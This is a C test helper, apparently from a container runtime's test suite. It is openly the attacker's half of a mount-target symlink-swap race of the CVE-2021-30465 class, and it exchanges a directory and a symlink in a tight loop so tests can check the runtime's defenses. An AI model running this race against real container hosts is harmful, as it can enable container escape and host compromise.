/* SPDX-License-Identifier: GPL-2.0-or-later */
/* mount_swap: a hostile container's half of the mount-target swap race
 * (CVE-2021-30465 class). Copied into a test rootfs as /mount_swap and run as
 * `mount_swap A B`: it exchanges the names A and B (a directory and a symlink
 * in a volume shared with a container being created) with
 * renameat2(RENAME_EXCHANGE) as fast as it can, until it is killed. It prints
 * "swapping" once the first exchange worked, so a test knows the race is on.
 * Static: the rootfs it runs in has no libc. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static int exchange(const char *a, const char *b)
{
	return (int)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: mount_swap A B\n");
		return 2;
	}
	if (exchange(argv[1], argv[2]) < 0) {
		perror("renameat2");
		return 1;
	}
	printf("swapping\n");
	fflush(stdout);
	for (;;)
		exchange(argv[1], argv[2]);
}
